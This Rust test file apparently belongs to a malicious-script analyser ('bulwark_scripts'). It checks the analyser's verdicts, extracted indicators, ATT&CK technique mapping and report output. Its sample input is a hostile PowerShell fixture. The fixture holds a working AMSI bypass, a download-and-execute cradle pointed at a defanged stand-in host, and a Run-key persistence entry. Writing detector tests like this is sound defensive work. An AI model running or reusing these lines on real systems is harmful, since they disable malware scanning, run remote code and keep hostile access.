//! Public API contract: serde round trip, entity mapping, report rendering, verdict levels.

use bulwark_model::EntityKind;
use bulwark_scripts::{
    Analysis, AnalyzeOptions, IocKind, Language, VerdictLevel, analyze, detect_language,
    render_text,
};

const SAMPLE: &str = "$u='Mozilla/5.0 (Windows NT 6.1; WOW64; Trident/7.0; rv:11.0) like Gecko'\n\
[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils').GetField('amsiInitFailed','NonPublic,Static').SetValue($null,$true)\n\
$wc=New-Object Net.WebClient; $wc.Headers.Add('User-Agent',$u)\n\
iex $wc.DownloadString('hxxp://evil[.]example[.]com/stage2.ps1')\n\
New-ItemProperty -Path HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run -Name x -Value 'powershell -w hidden -c iex 1'\n";

#[test]
fn analysis_round_trips_through_json() {
    let a = analyze(SAMPLE, &AnalyzeOptions::default());
    let json = serde_json::to_string(&a).unwrap();
    let back: Analysis = serde_json::from_str(&json).unwrap();
    assert_eq!(a, back);
    assert!(json.contains("\"level\":\"malicious\""));
    assert!(json.contains("\"language\":\"powershell\""));
}

#[test]
fn findings_on_a_plain_malicious_script() {
    let a = analyze(SAMPLE, &AnalyzeOptions::default());
    assert_eq!(a.language, Language::PowerShell);
    assert_eq!(a.verdict.level, VerdictLevel::Malicious);
    let url = a.iocs.iter().find(|i| i.kind == IocKind::Url).unwrap();
    assert_eq!(url.value, "http://evil.example.com/stage2.ps1");
    assert_eq!(url.defanged_from.as_deref(), Some("hxxp://evil[.]example[.]com/stage2.ps1"));
    assert_eq!(url.line, 4);
    assert!(
        a.iocs.iter().any(|i| i.kind == IocKind::UserAgent && i.value.starts_with("Mozilla/5.0"))
    );
    assert!(
        a.iocs
            .iter()
            .any(|i| i.kind == IocKind::RegistryKey && i.value.ends_with("CurrentVersion\\Run"))
    );
    let amsi = a.behaviours.iter().find(|b| b.name == "AMSI bypass").unwrap();
    assert_eq!((amsi.attack_technique.as_str(), amsi.line_number), ("T1562.001", 2));
    assert!(amsi.evidence_line.contains("AmsiUtils"));
    let run = a.behaviours.iter().find(|b| b.attack_technique == "T1547.001").unwrap();
    assert_eq!(run.line_number, 5);
    assert!(a.behaviours.iter().any(|b| b.attack_technique == "T1105"));
    assert!(a.explanation.iter().any(|e| e.contains("AMSI bypass")));
    assert!(
        a.explanation.last().unwrap().starts_with("Verdict: MALICIOUS")
            || a.explanation.iter().any(|e| e.starts_with("Verdict: MALICIOUS"))
    );
}

#[test]
fn entity_kinds_link_iocs_to_the_model() {
    assert_eq!(IocKind::Url.entity_kind(), Some(EntityKind::Url));
    assert_eq!(IocKind::Ipv6.entity_kind(), Some(EntityKind::Ip));
    assert_eq!(IocKind::Sha256.entity_kind(), Some(EntityKind::FileHash));
    assert_eq!(IocKind::RegistryKey.entity_kind(), Some(EntityKind::RegistryKey));
    assert_eq!(IocKind::Cve.entity_kind(), None);
}

#[test]
fn report_has_every_section() {
    let a = analyze(SAMPLE, &AnalyzeOptions::default());
    let r = render_text(&a);
    for s in [
        "# Script analysis: MALICIOUS",
        "## What it does",
        "## Behaviours",
        "## Indicators",
        "## Final script",
        "T1562.001",
    ] {
        assert!(r.contains(s), "missing {s}:\n{r}");
    }
}

#[test]
fn benign_and_empty_inputs() {
    let a = analyze("Get-ChildItem C:\\Temp | Sort-Object Length\n", &AnalyzeOptions::default());
    assert_eq!(a.verdict.level, VerdictLevel::Benign);
    assert_eq!(a.layers.len(), 1);
    let a = analyze("", &AnalyzeOptions::default());
    assert_eq!(a.verdict.level, VerdictLevel::Unknown);
    assert_eq!(detect_language("   "), Language::Unknown);
}

#[test]
fn forced_language_applies_to_the_input() {
    let opts = AnalyzeOptions { lang: Some(Language::Vba), ..AnalyzeOptions::default() };
    let a = analyze("x = Chr(104) & Chr(105)", &opts);
    assert_eq!(a.language, Language::Vba);
    assert!(a.final_layer().contains("\"hi\""));
    assert_eq!(Language::parse("ps1"), Some(Language::PowerShell));
    assert_eq!(Language::parse("auto"), None);
}
